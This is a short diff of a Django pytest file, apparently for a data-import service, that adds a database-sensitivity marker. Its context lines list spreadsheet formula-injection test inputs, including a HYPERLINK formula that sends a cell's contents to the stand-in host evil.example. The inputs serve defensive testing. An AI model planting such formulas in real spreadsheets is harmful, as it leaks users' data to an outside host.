@@ -15,7 +15,9 @@ from annotation.services import batch_open
 from dataio.services import data_import
 from tests.factories import ProjectFactory
 
-pytestmark = pytest.mark.django_db
+# db_sensitive: PostgreSQL refuses NUL characters and over-long text where SQLite stores them,
+# so scripts/test runs this matrix on both.
+pytestmark = [pytest.mark.django_db, pytest.mark.db_sensitive]
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)"]
 # Imports strip prompts, so a leading tab or CR survives only in a response (kept verbatim).
 REJECTED = ["\t=1+1", "\r=1+1", "-10 rejected"]
